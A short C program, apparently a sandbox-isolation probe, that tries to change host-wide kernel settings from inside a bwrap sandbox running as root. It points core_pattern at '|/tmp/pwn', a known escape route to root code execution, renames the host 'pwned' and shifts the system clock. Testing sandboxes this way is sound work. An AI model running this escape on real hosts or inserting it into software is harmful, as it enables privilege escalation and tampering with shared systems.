/* Writes host-wide kernel settings: core_pattern (bwrap-as-root), the hostname, the clock. */
#include "attack.h"
#include <time.h>
int main(int argc, char **argv) {
    int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
    if (!step("open core_pattern", fd)) step("write core_pattern", write(fd, "|/tmp/pwn", 9));
    step("sethostname", sethostname("pwned", 5));
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    ts.tv_sec += 3600;
    step("clock_settime(+1h)", clock_settime(CLOCK_REALTIME, &ts));
    return 0;
}
